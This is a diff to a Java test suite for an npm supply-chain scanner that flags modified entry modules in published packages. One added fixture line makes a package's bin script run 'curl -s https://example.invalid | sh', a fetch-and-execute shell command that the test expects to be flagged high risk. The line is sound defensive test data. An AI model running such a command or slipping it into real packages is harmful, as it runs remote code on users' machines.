@@ -262,25 +262,45 @@ class NpmScanTest {
     }
 
     @Test
-    void filesThatBinMainAndExportsLoadAreHighRiskWhenModified() throws Exception {
+    void filesThatBinMainAndExportsLoadAreEntryModulesJudgedByWhatWasAdded() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.0",
                         ",\n  \"exports\": {\".\": \"./index.js\", \"./feature\": {\"require\": \"./lib/feature.js\"},"
-                                + " \"./plugins/*\": \"./plugins/*.js\"}"),
+                                + " \"./plugins/*\": \"./plugins/*.js\", \"./package.json\": \"./package.json\"}"),
                 "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                 "lib/feature.js", "exports.f = 1;\n", "plugins/a.js", "exports.a = 1;\n", "notes.js", "// notes\n");
-        ArtifactReport a = publishAndScan(tree, "4.1.0", with(tree, "cli.js", "require('./index');\nrequire('./x');\n",
+        ArtifactReport a = publishAndScan(tree, "4.1.0", with(tree,
+                "cli.js", "require('./index');\nrequire('child_process').execSync('curl -s https://example.invalid | sh');\n",
                 "lib/feature.js", "exports.f = 2;\n", "plugins/a.js", "exports.a = 2;\n", "notes.js", "// more notes\n"));
         for (String p : List.of("package/cli.js", "package/lib/feature.js", "package/plugins/a.js")) {
             FileDivergence f = row(a, p);
             assertEquals(FileStatus.MODIFIED, f.status(), p);
-            assertTrue(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
-            assertTrue(f.highRisk(), p);
+            assertTrue(f.riskFlags().contains(RiskFlag.ENTRY_MODULE), p);
+            assertFalse(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
         }
+        // the bin target's added lines spawn a shell; the other entry modules changed a constant
+        assertTrue(row(a, "package/cli.js").highRisk());
+        assertFalse(row(a, "package/lib/feature.js").highRisk());
+        assertFalse(row(a, "package/plugins/a.js").highRisk());
         FileDivergence notes = row(a, "package/notes.js");
         assertEquals(FileStatus.MODIFIED, notes.status());
-        assertFalse(notes.highRisk());
-        assertEquals(List.of("package/cli.js", "package/lib/feature.js", "package/plugins/a.js"),
-                a.highRiskPaths().stream().sorted().toList());
+        assertFalse(notes.riskFlags().contains(RiskFlag.ENTRY_MODULE));
+        assertEquals(List.of("package/cli.js"), a.highRiskPaths().stream().sorted().toList());
+        assertEquals(Verdict.HIGH_RISK, a.verdict());
+    }
+
+    @Test
+    void aPackageJsonListedInExportsIsDataNotAnEntryModule() throws Exception {
+        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.1-rc.0",
+                        ",\n  \"exports\": {\".\": \"./index.js\", \"./package.json\": \"./package.json\"}"),
+                "index.js", "module.exports = 1;\n");
+        ArtifactReport a = publishAndScan(tree, "4.1.1-rc.0", with(tree, "index.js", "module.exports = 2;\n"));
+        assertFalse(row(a, "package/package.json").riskFlags().contains(RiskFlag.ENTRY_MODULE));
+        assertFalse(row(a, "package/package.json").riskFlags().contains(RiskFlag.AUTO_EXEC));
+        FileDivergence index = row(a, "package/index.js");
+        assertEquals(FileStatus.MODIFIED, index.status());
+        assertTrue(index.riskFlags().contains(RiskFlag.ENTRY_MODULE));
+        assertFalse(index.highRisk());
+        assertEquals(Verdict.DIVERGENT, a.verdict());
     }
 
     @Test
@@ -356,7 +376,7 @@ class NpmScanTest {
         assertEquals("package.json fields differ: [main]", pj.detail().orElseThrow());
         FileDivergence loader = row(a, "package/loader.js");
         assertEquals(FileStatus.PHANTOM, loader.status());
-        assertTrue(loader.riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertTrue(loader.riskFlags().contains(RiskFlag.ENTRY_MODULE));
         assertTrue(loader.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
@@ -403,7 +423,7 @@ class NpmScanTest {
         assertFalse(junk.highRisk());
         FileDivergence boot = row(a, "package/coverage/boot.js");
         assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, boot.ruleId());
-        assertTrue(boot.riskFlags().contains(RiskFlag.AUTO_EXEC));
+        assertTrue(boot.riskFlags().contains(RiskFlag.ENTRY_MODULE));
         assertTrue(boot.highRisk());
         assertEquals(Verdict.HIGH_RISK, a.verdict());
     }
